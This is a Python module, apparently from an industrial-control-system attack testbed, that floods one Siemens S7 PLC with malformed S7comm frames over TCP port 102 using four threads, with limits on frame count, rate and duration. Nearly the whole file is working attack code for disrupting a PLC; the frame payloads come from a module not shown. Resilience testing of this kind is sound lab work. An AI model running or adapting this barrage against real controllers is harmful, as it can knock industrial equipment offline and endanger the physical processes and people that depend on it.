"""A bounded barrage of malformed S7comm frames against one S7 PLC.

Run inside the attacker host::

    python -m attacks.s7_fuzz --plan PLAN.json --targets 10.20.2.23 --out fuzz.json \\
        [--port 102] [--frames 10000] [--rate-fps 2000] [--max-s 30] [--seed 1]

Each exchange (:mod:`attacks.s7_frames`) is one TCP connection: its frames are sent in
order, whatever comes back is read briefly, then the connection is closed; four threads
send exchanges at once. Bounded by
``--frames`` (count) and ``--max-s`` (time), paced at ``--rate-fps``. The library part
(:func:`run_barrage`) does no namespace check, so the loopback unit test drives it directly.
Whether the PLC survived is not the attacker's to see: the HMI's availability and the PLC's
own log say it.
"""

from __future__ import annotations

import argparse
import contextlib
import logging
import random
import socket
import threading
import time
from collections.abc import Sequence
from dataclasses import asdict, dataclass, field

from attacks.bounds import BarrageLimits, check_bounds
from attacks.s7_frames import hostile_exchange
from common.cli import int_in
from common.hostenv import AttackContext, AttackOutcome, attack_parser, run_attack, single_target
from common.s7 import S7_PORT

log = logging.getLogger(__name__)

LIMITS = BarrageLimits(frames=10_000, max_frames=100_000, rate_fps=2000.0, max_rate_fps=5000.0,
                       max_s=30.0, max_duration_s=300.0)
REPLY_WAIT_S = 0.002
WORKERS = 4


@dataclass
class S7BarrageStats:
    """frames: frames written (by kind in ``kinds``); connections: established;
    connect_failures: refused or timed out; reply_bytes: bytes the target sent back."""

    frames: int = 0
    connections: int = 0
    connect_failures: int = 0
    reply_bytes: int = 0
    kinds: dict[str, int] = field(default_factory=dict)
    duration_s: float = 0.0


def _exchange(host: str, port: int, frames: list[bytes]) -> tuple[bool, int, int]:
    """Send one exchange on a new connection: (connected, frames sent, reply bytes)."""
    try:
        sock = socket.create_connection((host, port), timeout=1.0)
    except OSError:
        return False, 0, 0
    sent = received = 0
    try:
        for frame in frames:
            sock.sendall(frame)
            sent += 1
        sock.settimeout(REPLY_WAIT_S)  # a glance at the reply; the PLC is judged by its HMI
        with contextlib.suppress(OSError):
            received = len(sock.recv(4096))
    except OSError:
        pass
    finally:
        sock.close()
    return True, sent, received


def run_barrage(host: str, port: int, frames: int, rate_fps: float, max_s: float,
                seed: int = 1, stats: S7BarrageStats | None = None,
                workers: int = WORKERS) -> S7BarrageStats:
    """Send at least ``frames`` frames (whole exchanges) or stop at ``max_s``.

    ``workers`` threads each open their own connections; the exchanges they send are
    drawn from one seeded generator, so a seed gives the same multiset of frames.
    """
    stats = stats or S7BarrageStats()
    rng = random.Random(seed)
    lock = threading.Lock()
    start = time.monotonic()

    def work() -> None:
        while True:
            with lock:
                if stats.frames >= frames or time.monotonic() - start >= max_s:
                    return
                kind, exchange = hostile_exchange(rng)
                stats.kinds[kind] = stats.kinds.get(kind, 0) + len(exchange)
                stats.frames += len(exchange)  # reserved now, so workers stop at the bound
                ahead_s = stats.frames / rate_fps - (time.monotonic() - start)
            if ahead_s > 0:
                time.sleep(ahead_s)
            connected, sent, received = _exchange(host, port, exchange)
            with lock:
                stats.frames -= len(exchange) - sent
                stats.connections += connected
                stats.connect_failures += not connected
                stats.reply_bytes += received

    threads = [threading.Thread(target=work, daemon=True) for _ in range(max(1, workers))]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    stats.duration_s = round(time.monotonic() - start, 3)
    return stats


@dataclass(kw_only=True)
class S7FuzzOutcome(AttackOutcome):
    target: str = ""
    port: int = S7_PORT
    barrage: dict = field(default_factory=dict)


def build_parser() -> argparse.ArgumentParser:
    parser = attack_parser("attacks.s7_fuzz",
                           "A bounded barrage of malformed S7comm frames against one PLC.")
    parser.add_argument("--port", type=int_in(1, 65535), default=S7_PORT)
    LIMITS.add_options(parser)
    return parser


def _validate(args: argparse.Namespace) -> None:
    check_bounds(args, LIMITS.bounds)
    single_target(args.plan, args.targets)


def _new_outcome(args: argparse.Namespace, targets: tuple[str, ...]) -> S7FuzzOutcome:
    return S7FuzzOutcome(attack="s7_fuzz", targets=list(targets), target=targets[0],
                         port=args.port)


def _body(ctx: AttackContext) -> None:
    args, outcome = ctx.args, ctx.outcome
    assert isinstance(outcome, S7FuzzOutcome)
    stats = S7BarrageStats()
    try:
        run_barrage(outcome.target, args.port, args.frames, args.rate_fps, args.max_s,
                    args.seed, stats)
    finally:
        outcome.barrage = asdict(stats)
        log.info("s7_fuzz: %d frames, %d connections in %.2f s to %s:%d", stats.frames,
                 stats.connections, stats.duration_s, outcome.target, args.port)


def main(argv: Sequence[str] | None = None) -> int:
    """Run the barrage; returns the exit status (0 ok, 1 failed, 2 refused, 128+N signal N)."""
    return run_attack(parser=build_parser(), argv=argv, new_outcome=_new_outcome, body=_body,
                      validate=_validate)


if __name__ == "__main__":
    raise SystemExit(main())
